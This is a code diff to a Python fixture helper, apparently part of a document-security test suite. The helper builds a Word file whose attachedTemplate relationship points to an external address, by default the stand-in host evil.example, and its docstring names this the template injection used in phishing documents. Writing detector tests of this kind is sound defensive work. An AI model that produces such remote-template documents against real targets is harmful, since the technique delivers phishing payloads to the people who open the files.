@@ -228,13 +228,13 @@ def _body(document_xml: bytes, xml: str) -> bytes:
     return document_xml.replace(b"<w:sectPr", xml.encode() + b"<w:sectPr", 1)
 
 
-def docx_remote_template() -> bytes:
-    """The attachedTemplate relationship of word/settings.xml pointing to a web address (the
-    template injection of phishing documents)."""
+def docx_remote_template(target: str = "http://evil.example/t.dotm") -> bytes:
+    """The attachedTemplate relationship of word/settings.xml pointing to ``target``: by
+    default a web address (the template injection of phishing documents)."""
     rels = (
         f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{REL}">'
         f'<Relationship Id="rId1" Type="{R}/attachedTemplate" '
-        'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
+        f'Target="{target}" TargetMode="External"/></Relationships>'
     ).encode()
 
     def settings(xml: bytes) -> bytes:
